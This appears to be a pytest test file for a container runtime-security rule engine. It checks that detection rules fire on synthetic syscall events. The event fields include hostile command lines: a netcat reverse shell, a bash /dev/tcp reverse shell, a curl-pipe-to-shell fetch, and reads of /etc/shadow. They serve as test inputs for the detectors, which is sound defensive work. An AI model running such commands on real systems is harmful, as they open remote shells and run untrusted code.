"""hullguard's bundled rules against events written for each of them."""

from __future__ import annotations

from typing import Any

import pytest

from hullguard.runtime.engine import Engine
from hullguard.runtime.rules import default_rules_path, load_rules


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine(load_rules([default_rules_path()]), rule_matching="all", hostname="test")


def exec_ev(**kw: Any) -> dict[str, Any]:
    ev: dict[str, Any] = {"evt.type": "execve", "evt.dir": "<", "evt.time": 1_795_428_000_000_000_000,
                          "proc.name": "bash", "proc.exe": "/bin/bash", "proc.cmdline": "bash", "proc.pname": "runc",
                          "proc.tty": 0, "user.name": "root", "user.uid": 0, "container.id": "3ad7b26ded6d",
                          "container.name": "web", "container.image.repository": "docker.io/library/nginx",
                          "container.image.tag": "1.25", "_anc": ["runc", "containerd-shim", "systemd"]}
    ev.update({k.replace("__", "."): v for k, v in kw.items()})
    return ev


def open_ev(name: str, flags: str, **kw: Any) -> dict[str, Any]:
    ev = exec_ev(**kw)
    ev.update({"evt.type": "openat", "fd.name": name, "fd.typechar": "f", "evt.arg.flags": flags})
    return ev


def connect_ev(dip: str, dport: int, **kw: Any) -> dict[str, Any]:
    ev = exec_ev(**kw)
    ev.update({"evt.type": "connect", "fd.typechar": "4", "fd.sip": "10.0.0.5", "fd.sport": 40100, "fd.dip": dip,
               "fd.dport": dport, "fd.l4proto": "tcp"})
    return ev


CASES = [
    ("Terminal shell in container", exec_ev(proc__tty=34816), True),
    ("Terminal shell in container", exec_ev(proc__tty=34816, container__id="host"), False),
    ("Shell spawned by non-shell in container", exec_ev(proc__pname="node"), True),
    ("Shell spawned by non-shell in container", exec_ev(proc__pname="entrypoint.sh"), False),  # exception
    ("Shell spawned by non-shell in container", exec_ev(proc__pname="zsh"), False),
    ("Write below etc", open_ev("/etc/passwd", "O_WRONLY"), True),
    ("Write below etc", open_ev("/etc/passwd", "O_RDONLY"), False),
    ("Write below etc", open_ev("/etc/passwd", "O_RDWR", proc__name="apt-get"), False),
    ("Write below etc", open_ev("/etc/chrony/chrony.conf", "O_WRONLY", proc__name="chronyd"), False),
    ("Write below etc", open_ev("/etc/cni/net.d/10.conf", "O_WRONLY", proc__name="containerd"), False),
    ("Write below etc", open_ev("/etc/hosts.allow", "O_WRONLY"), False),  # appended condition
    ("Write below etc", open_ev("/etc/x", "O_WRONLY", proc__name="confd"), False),  # appended macro
    ("Write below binary dir", open_ev("/usr/bin/ls", "O_WRONLY|O_CREAT"), True),
    ("Write below binary dir", open_ev("/usr/bin/ls", "O_WRONLY", proc__name="install"), False),
    ("Read sensitive file untrusted", open_ev("/etc/shadow", "O_RDONLY", proc__name="python3"), True),
    ("Read sensitive file untrusted", open_ev("/etc/shadow", "O_RDONLY", proc__name="sshd"), False),
    ("Package management process launched in container", exec_ev(proc__name="apt-get"), True),
    ("Network tool launched in container", exec_ev(proc__name="masscan"), True),
    ("Outbound connection to uncommon port", connect_ev("93.184.216.34", 6379), True),
    ("Outbound connection to uncommon port", connect_ev("93.184.216.34", 8443), False),
    ("Outbound connection to uncommon port", connect_ev("127.0.0.1", 6379), False),
    ("Outbound connection to miner pool port", connect_ev("198.51.100.2", 3333), True),
    ("Crypto miner launched", exec_ev(proc__name="curl", proc__cmdline="curl stratum+TCP://x"), True),
    ("Netcat remote code execution", exec_ev(proc__name="nc", proc__cmdline="nc -e /bin/sh 1.2.3.4 80"), True),
    ("Reverse shell redirect", exec_ev(proc__cmdline="bash -i >& /dev/tcp/1.2.3.4/80 0>&1"), True),
    ("Recon command in container", exec_ev(proc__name="whoami", proc__pname="bash"), True),
    ("Launch privileged container", exec_ev(container__privileged=True, container__image__repository="quay.io/x"),
     True),
    ("Launch privileged container", exec_ev(container__privileged=True,
                                            container__image__repository="registry.k8s.io/pause"), False),
    ("Run shell untrusted", exec_ev(proc__pname="nginx"), True),
    ("Shell with any web ancestor", exec_ev(proc__pname="python3", _anc=["python3", "nginx", "systemd"]), True),
    ("Shell with any web ancestor", exec_ev(proc__pname="python3", _anc=["python3", "cron"]), False),
    ("Clear log activities", open_ev("/var/log/syslog", "O_WRONLY|O_TRUNC"), True),
    ("Delete bash history", {**exec_ev(), "evt.type": "unlinkat", "evt.arg.name": "/root/.bash_history"}, True),
    ("Create symlink over sensitive file", {**exec_ev(), "evt.type": "symlinkat", "evt.arg.target": "/etc/shadow"},
     True),
    ("Mount launched in container", exec_ev(proc__name="mount", proc__cmdline="mount /dev/sda1 /mnt"), True),
    ("Ptrace attached to process", {**exec_ev(proc__name="evil"), "evt.type": "ptrace", "evt.dir": ">",
                                    "evt.arg.request": "PTRACE_ATTACH"}, True),
    ("Set setuid or setgid bit", {**exec_ev(), "evt.type": "fchmodat", "evt.arg.mode": "S_ISUID|S_IXUSR"}, True),
    ("Container drift via chmod +x", {**exec_ev(), "evt.type": "chmod", "evt.arg.mode": "S_IXUSR"}, True),
    ("Process from /tmp", exec_ev(proc__name="x", proc__exe="/tmp/x"), True),
    ("Process from /tmp", exec_ev(proc__name="x", proc__exe="/tmpfoo/x"), False),
    ("Execution from hidden path", exec_ev(proc__name="x", proc__exe="/root/.cache/x"), True),
    ("Base64 decoded payload in shell", exec_ev(proc__cmdline="sh -c curl http://x | sh"), True),
    ("Credential tool in container", exec_ev(proc__name="AWS"), True),
    ("Process name equals parent name", exec_ev(proc__name="sh", proc__pname="sh", proc__exe="/tmp/sh"), True),
    ("Long command line", exec_ev(proc__cmdline="bash " + "A" * 1200), True),
    ("Suspicious interpreter one-liner", exec_ev(proc__name="python3", proc__cmdline="python3 -c import socket"),
     True),
    ("Suspicious interpreter one-liner", exec_ev(proc__name="pythonx", proc__cmdline="pythonx socket"), False),
    ("Inbound connection to SSH in container", {**connect_ev("10.0.0.9", 50000), "evt.type": "accept",
                                                "fd.sport": 22}, True),
    ("Sudo in container", exec_ev(proc__name="sudo"), True),
    ("Root user login shell", exec_ev(proc__name="-bash"), True),
    ("Modify authorized keys", open_ev("/root/.ssh/authorized_keys", "O_WRONLY"), True),
]


@pytest.mark.parametrize(("rule", "ev", "want"), CASES, ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)])
def test_rule(engine: Engine, rule: str, ev: dict[str, Any], want: bool) -> None:
    fired = [a.rule for a in engine.process(ev)]
    assert (rule in fired) is want, fired


def test_disabled_rule_never_fires(engine: Engine) -> None:
    assert "Noisy debug rule" not in [a.rule for a in engine.process(exec_ev())]


def test_routing_only_offers_rules_for_the_event_type(engine: Engine) -> None:
    names = {r.name for r in engine.candidates("syscall", "connect", "curl")}
    assert "Outbound connection to uncommon port" in names
    assert "Write below etc" not in names and "Terminal shell in container" not in names
    # Rules whose every match needs a given process name only meet that process.
    assert "Sudo in container" not in {r.name for r in engine.candidates("syscall", "execve", "bash")}
    assert "Sudo in container" in {r.name for r in engine.candidates("syscall", "execve", "sudo")}


def test_first_match_mode_stops_at_first_rule() -> None:
    rs = load_rules([default_rules_path()])
    ev = exec_ev(proc__tty=34816, proc__pname="nginx")
    all_alerts = Engine(rs, rule_matching="all", hostname="h").process(ev)
    first = Engine(rs, hostname="h").process(ev)
    assert len(all_alerts) > 1 and [a.rule for a in first] == [all_alerts[0].rule]


def test_min_priority_filters() -> None:
    rs = load_rules([default_rules_path()])
    eng = Engine(rs, rule_matching="all", min_priority="error", hostname="h")
    assert all(a.priority in ("Error", "Critical", "Alert", "Emergency") for a in eng.process(exec_ev(
        proc__tty=34816, proc__pname="nginx")))
